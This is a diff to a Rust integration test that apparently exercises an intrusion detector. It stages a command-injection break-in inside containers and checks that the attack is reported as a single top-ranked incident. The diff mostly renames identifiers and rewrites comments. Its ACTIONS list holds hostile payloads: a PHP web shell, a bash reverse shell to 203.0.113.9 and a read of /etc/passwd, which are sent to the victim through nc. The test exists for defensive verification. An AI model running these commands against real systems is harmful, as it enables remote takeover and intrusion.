@@ -1,6 +1,6 @@
-//! A whole break-in among honest servers, watched from before it and from after it: the container
-//! that was taken over comes first, with one incident that shows the whole attack, and nothing else
-//! is raised.
+//! A complete break-in among honest servers, with watching begun before and after it: the
+//! compromised container is first, with one incident that shows the whole attack, and there is no
+//! other finding.
 
 use std::time::Duration;
 
@@ -13,7 +13,7 @@ use super::scenarios::batch::alone;
 use super::scenarios::common::{Container, Engine, Recording, SERVERS, Session};
 use super::scenarios::{peer, ready};
 
-/// A web application that runs what it is asked to.
+/// A web application with a command injection.
 const VICTIM: &str = r#"
 mkdir -p /var/www/html /etc/cron.d
 cat >/srv/app.py <<'E'
@@ -25,7 +25,7 @@ E
 exec python3 /srv/app.py
 "#;
 
-/// Servers that do their work.
+/// Honest servers.
 const HONEST: &[(&str, &str)] = &[
     (
         "redis",
@@ -46,12 +46,12 @@ const HONEST: &[(&str, &str)] = &[
     ),
 ];
 
-/// Seconds after which a container that ran before watching began is judged as one seen from its
+/// Seconds after which a container that ran before watching began counts as one seen from its
 /// start.
 const LEARNED: u64 = 65;
 
-/// What the intruder asks the application for, one request each.
-const DEEDS: &[&str] = &[
+/// The intruder's requests to the application.
+const ACTIONS: &[&str] = &[
     "id; uname -a; cat /etc/passwd >/dev/null; ls -la /",
     "echo '<?php system($_GET[0]);' >/var/www/html/s.php",
     "(bash -c 'bash -i >& /dev/tcp/203.0.113.9/4448 0>&1' >/dev/null 2>&1 </dev/null &)",
@@ -84,11 +84,11 @@ impl World {
         }
     }
 
-    /// The break-in, from a container beside it.
+    /// The break-in, from another container.
     fn attack(&self) {
         let mut script = String::new();
-        for deed in DEEDS {
-            let quoted = deed.replace('\'', r"'\''");
+        for action in ACTIONS {
+            let quoted = action.replace('\'', r"'\''");
             script += &format!("printf %s '{quoted}' | nc -q2 -w9 127.0.0.1 8086; sleep 1\n");
         }
         let options = ["--network", self.network.as_str()];
@@ -103,8 +103,8 @@ impl Drop for World {
     }
 }
 
-/// Applies what was recorded; the incidents, the likeliest break-in first.
-fn judged(session: &Session) -> (Core, Vec<Incident>) {
+/// Applies the recording; returns the incidents, the likeliest break-in first.
+fn replayed(session: &Session) -> (Core, Vec<Incident>) {
     let last = session.events.last().unwrap().seq;
     let core = session.state_at(last);
     let incidents = core.ranked_incidents();
@@ -167,12 +167,12 @@ fn a_break_in_is_one_incident_and_comes_first() {
     let victim = world.victim.id.clone();
     let mut before = Recording::start(&world.engine);
     before.wait_for_facts(&victim);
-    // What the servers did before is learned.
+    // Earlier behavior of the servers is known.
     passes(&mut before, later(super::scenarios::watch::now(), LEARNED));
     let began = super::scenarios::watch::now();
     world.attack();
     passes(&mut before, later(super::scenarios::watch::now(), 8));
-    let (core, incidents) = judged(&before.stop());
+    let (core, incidents) = replayed(&before.stop());
     let incident = only_incident(&victim, &core, &incidents);
     holds(
         &incident,
@@ -192,7 +192,7 @@ fn a_break_in_is_one_incident_and_comes_first() {
         e.container.as_ref() == Some(&victim) && matches!(e.kind, Kind::DriftScan(_))
     });
     passes(&mut after, later(super::scenarios::watch::now(), 8));
-    let (core, incidents) = judged(&after.stop());
+    let (core, incidents) = replayed(&after.stop());
     let incident = only_incident(&victim, &core, &incidents);
     holds(&incident, &["reverse shell", "miner", "cron"]);
 }
